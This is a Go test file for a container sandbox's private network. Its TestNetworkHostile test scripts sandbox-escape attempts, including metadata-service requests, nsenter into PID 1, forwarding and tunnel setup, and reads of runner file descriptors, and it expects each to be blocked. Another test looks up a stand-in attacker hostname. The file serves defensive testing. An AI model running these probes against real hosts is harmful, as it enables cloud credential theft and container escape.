package runner

import (
	"bytes"
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"golang.org/x/sys/unix"

	"girderworker/daemon/attempt"
	"girderworker/sandbox"
	"girderworker/transforms"
)

// service is an HTTP server at an address of this machine.
func service(t testing.TB, address string, handler http.HandlerFunc) (port string) {
	t.Helper()
	l, err := net.Listen("tcp", address)
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewUnstartedServer(handler)
	srv.Listener.Close()
	srv.Listener = l
	srv.Start()
	t.Cleanup(srv.Close)
	_, port, err = net.SplitHostPort(l.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	return port
}

func hello(w http.ResponseWriter, r *http.Request) { fmt.Fprintf(w, "hello %s", r.URL.Path) }

// networkWorld is a world whose job has a private network.
func networkWorld(t testing.TB, rules sandbox.Network, script string) *world {
	w := newWorld(t, sh(script)...)
	w.request.Plan.Network = sandbox.NetworkPrivate
	w.request.Grant.Network = &rules
	return w
}

// networkProcess is the network's process of a runner, or 0.
func networkProcess(t testing.TB, runner int) int {
	t.Helper()
	return childOf(t, runner, NetworkCommand)
}

// childOf finds a process by its parent and its sub-command.
func childOf(t testing.TB, parent int, command string) int {
	t.Helper()
	all, err := filepath.Glob("/proc/[0-9]*")
	if err != nil {
		t.Fatal(err)
	}
	for _, dir := range all {
		line, _ := os.ReadFile(dir + "/cmdline")
		status, _ := os.ReadFile(dir + "/status")
		if bytes.Contains(line, []byte("\x00"+command+"\x00")) && bytes.Contains(status, fmt.Appendf(nil, "\nPPid:\t%d\n", parent)) {
			pid, err := strconv.Atoi(filepath.Base(dir))
			if err != nil {
				t.Fatal(err)
			}
			return pid
		}
	}
	return 0
}

// TestPrivateNetwork: a job calls a service of this machine that is let through.
func TestPrivateNetwork(t *testing.T) {
	port := service(t, "127.0.0.1:0", hello)
	w := networkWorld(t, sandbox.Network{Host: []string{"localhost:" + port}},
		"wget -q -O - http://host.docker.internal:"+port+"/api; echo; cat /etc/resolv.conf /etc/hosts; ip addr show eth0 | grep inet; nslookup host.containers.internal; nslookup nothing.invalid || echo no such name; ping -c 1 198.18.0.1 || echo no ping")
	w.request.Plan.ExtraHosts = []sandbox.HostEntry{{Name: "girder", Address: sandbox.HostGateway}, {Name: "db", Address: "10.1.2.3"}}
	w.want(w.run(), attempt.OutcomeExited, 0, "")
	log := w.log()
	for _, want := range []string{"hello /api\n", "nameserver 198.18.0.1\n", "198.18.0.1\thost.docker.internal host.containers.internal\n", "198.18.0.1\tgirder\n", "10.1.2.3\tdb\n", "inet 198.18.0.2/24", "Address: 198.18.0.1", "no such name"} {
		if !strings.Contains(log, want) {
			t.Errorf("no %q in\n%s", want, log)
		}
	}
	if got := w.notes(); got != "" {
		t.Errorf("notes: %s", got)
	}
}

// TestNetworkIsLazy: a job that sends nothing has no process for it.
func TestNetworkIsLazy(t *testing.T) {
	w := networkWorld(t, sandbox.Network{}, "ip link show eth0; echo up; while [ ! -e /in/go ]; do usleep 10000; done; nslookup host.docker.internal; echo asked; while [ ! -e /in/end ]; do usleep 10000; done")
	w.request.Plan.Binds = append(w.request.Plan.Binds, bindOf(w.files, "/in"))
	p := w.start()
	w.waitLog("up\n")
	if pid := networkProcess(t, p.Process.Pid); pid != 0 {
		t.Errorf("process %d is there before the first packet", pid)
	}
	w.file("go", nil)
	w.waitLog("asked\n")
	pid := networkProcess(t, p.Process.Pid)
	if pid == 0 {
		t.Fatal("there is no process after a packet")
	}
	status, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{fmt.Sprintf("Uid:\t%d\t%[1]d\t%[1]d\t%[1]d", submitter), "CapEff:\t0000000000000000", "CapBnd:\t0000000000000000", "NoNewPrivs:\t1"} {
		if !strings.Contains(string(status), want) {
			t.Errorf("no %q in\n%s", want, status)
		}
	}
	w.file("end", nil)
	w.want(w.end(p), attempt.OutcomeExited, 0, "")
	if err := unix.Kill(pid, 0); !errors.Is(err, unix.ESRCH) {
		t.Errorf("the network's process after the end: %v", err)
	}
}

// TestNetworkHostile: what a container must not reach. Each line prints a name
// when it got through.
func TestNetworkHostile(t *testing.T) {
	secret := func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, "REACHED") }
	local := service(t, "127.0.0.1:0", secret)
	everywhere := service(t, "0.0.0.0:0", secret)
	allowed := service(t, "127.0.0.1:0", hello)
	abstract, err := net.Listen("unix", "@girder-worker-test-secret")
	if err != nil {
		t.Fatal(err)
	}
	defer abstract.Close()

	own, err := net.InterfaceAddrs()
	if err != nil {
		t.Fatal(err)
	}
	var lines []string
	tried := 0
	try := func(name, command string) {
		tried++
		lines = append(lines, fmt.Sprintf("%s >/tmp/out 2>&1 && echo GOT %s: $(cat /tmp/out) || echo no %s: $(cat /tmp/out)", command, name, name))
	}
	get := func(name, address, port string) {
		try(name, "wget -q -O - http://"+net.JoinHostPort(address, port)+"/")
	}
	for _, address := range []string{"127.0.0.1", "127.0.0.53", "0.0.0.0", "198.18.0.1", "198.18.0.2", "198.18.0.9", "::1", "::ffff:127.0.0.1", "fd67:6972:6465:7200::1", "host.docker.internal"} {
		get("loopback service at "+address, address, local)
		get("service at "+address, address, everywhere)
	}
	for _, a := range own {
		ip, _, err := net.ParseCIDR(a.String())
		if err == nil && !ip.IsLoopback() && !ip.IsLinkLocalUnicast() {
			get("service at the own address "+ip.String(), ip.String(), everywhere)
		}
	}
	for _, address := range []string{"169.254.169.254", "100.100.100.200", "168.63.129.16", "192.0.0.192", "fd00:ec2::254"} {
		get("metadata at "+address, address, "80")
	}
	try("another port of a service", "wget -q -O - http://host.docker.internal:1/")
	try("abstract sockets", "grep girder-worker-test-secret /proc/net/unix")
	try("a ping of the machine", "ping -c 1 -W 1 127.0.0.2")
	try("a raw socket", "ping -c 1 -W 1 169.254.169.254")
	try("another address", "ip addr add 198.18.0.77/24 dev eth0")
	try("another route", "ip route add 10.0.0.0/8 dev eth0 src 127.0.0.1")
	try("the device down", "ip link set eth0 down")
	try("a new device", "ip tunnel add t0 mode ipip remote 10.0.0.1")
	try("the tun device", "ls -l /dev/net/tun")
	try("a tap device", "tunctl -t tap9")
	try("a node for the tun device", "mknod /tmp/tun c 10 200")
	try("forwarding", "sh -c 'echo 1 > /proc/sys/net/ipv4/ip_forward'")
	try("the namespace of process 1", "nsenter -t 1 -n ls /")
	try("files of the runner", "ls /proc/1/fd/9")
	lines = append(lines, "wget -q -O - http://host.containers.internal:"+allowed+"/still")
	w := networkWorld(t, sandbox.Network{Host: []string{"localhost:" + allowed}}, strings.Join(lines, "\n"))
	// Even where everything is allowed by address.
	w.request.Grant.Network.Narrow, w.request.Grant.Network.Allow = true, []string{"0.0.0.0/0", "::/0"}
	w.want(w.run(), attempt.OutcomeExited, 0, "")
	log := w.log()
	if strings.Contains(log, "GOT") || strings.Contains(log, "REACHED") || !strings.HasSuffix(log, "hello /still") {
		t.Errorf("got\n%s", log)
	}
	if notes := w.notes(); !strings.Contains(notes, "refused") || !strings.Contains(notes, "169.254.169.254:80 (a link-local address)") && !strings.Contains(notes, "and others") {
		t.Errorf("notes: %s", notes)
	}
	for _, wrong := range []string{"invalid option", "Usage", "applet", "syntax error"} {
		if strings.Contains(log, wrong) {
			t.Errorf("the script is wrong, %s:\n%s", wrong, log)
		}
	}
	t.Logf("tried %d, let through %d; %s", tried, strings.Count(log, "GOT"), w.notes())
}

// TestNetworkNarrow: with a list of destinations nothing else is reached or resolved.
func TestNetworkNarrow(t *testing.T) {
	port := service(t, "127.0.0.1:0", hello)
	host, err := os.Hostname()
	if err != nil {
		t.Fatal(err)
	}
	host = strings.ToLower(host)
	w := networkWorld(t, sandbox.Network{Narrow: true, Allow: []string{"data.example:443"}, Host: []string{host + ":" + port}},
		"nslookup other.example; nslookup secret-data.attacker.example; wget -q -O - http://203.0.113.1/; nslookup "+host+"; wget -q -O - http://"+host+":"+port+"/named || echo not resolved")
	w.want(w.run(), attempt.OutcomeExited, 0, "")
	if !strings.Contains(w.log(), "Address: 198.18.0.3") {
		t.Errorf("log:\n%s", w.log())
	}
	for _, want := range []string{"other.example (not an allowed name)", "203.0.113.1:80 (not an allowed destination)"} {
		if !strings.Contains(w.notes(), want) {
			t.Errorf("no %q in %s", want, w.notes())
		}
	}
}

// TestNetworkUDP: packets go both ways; here as TFTP (RFC 1350), with a server
// that answers from the port that it was asked at.
func TestNetworkUDP(t *testing.T) {
	conn, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	go func() {
		buf := make([]byte, 1<<16)
		for {
			_, from, err := conn.ReadFrom(buf)
			if err != nil {
				return
			}
			if buf[1] == 1 { // a read: one short block is the whole file
				conn.WriteTo(append([]byte{0, 3, 0, 1}, "over UDP"...), from)
			}
		}
	}()
	_, port, _ := net.SplitHostPort(conn.LocalAddr().String())
	w := networkWorld(t, sandbox.Network{Host: []string{"127.0.0.1:" + port}}, "cd /tmp; tftp -g -r file host.docker.internal "+port+"; cat file")
	w.want(w.run(), attempt.OutcomeExited, 0, "")
	if got := w.log(); !strings.Contains(got, "over UDP") {
		t.Errorf("log: %s", got)
	}
}

// TestNetworkRunnerKilled: kill -9 of the runner leaves no process and no device.
func TestNetworkRunnerKilled(t *testing.T) {
	w := networkWorld(t, sandbox.Network{}, "nslookup host.docker.internal; echo up; exec sleep 1000")
	p := w.start()
	w.waitLog("up\n")
	pid := networkProcess(t, p.Process.Pid)
	if pid == 0 {
		t.Fatal("there is no process for the network")
	}
	fd, err := unix.PidfdOpen(pid, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer unix.Close(fd)
	if err := p.Process.Kill(); err != nil {
		t.Fatal(err)
	}
	p.Wait()
	if n, err := unix.Poll([]unix.PollFd{{Fd: int32(fd), Events: unix.POLLIN}}, 20_000); n != 1 || err != nil {
		t.Errorf("the network's process lives on: %d, %v", n, err)
	}
}

// TestNetworkProcessKilled: a job whose network is gone is ended with the reason.
func TestNetworkProcessKilled(t *testing.T) {
	w := networkWorld(t, sandbox.Network{}, "nslookup host.docker.internal; echo up; exec sleep 1000")
	p := w.start()
	w.waitLog("up\n")
	pid := networkProcess(t, p.Process.Pid)
	if pid == 0 {
		t.Fatal("there is no process for the network") // 0 would be this one's whole group
	}
	if err := unix.Kill(pid, unix.SIGKILL); err != nil {
		t.Fatal(err)
	}
	w.want(w.end(p), attempt.OutcomeError, attempt.CodeError, "the process for the job's network died")
}

func bindOf(source, target string) transforms.Bind {
	return transforms.Bind{Source: source, Target: target, ReadOnly: true}
}
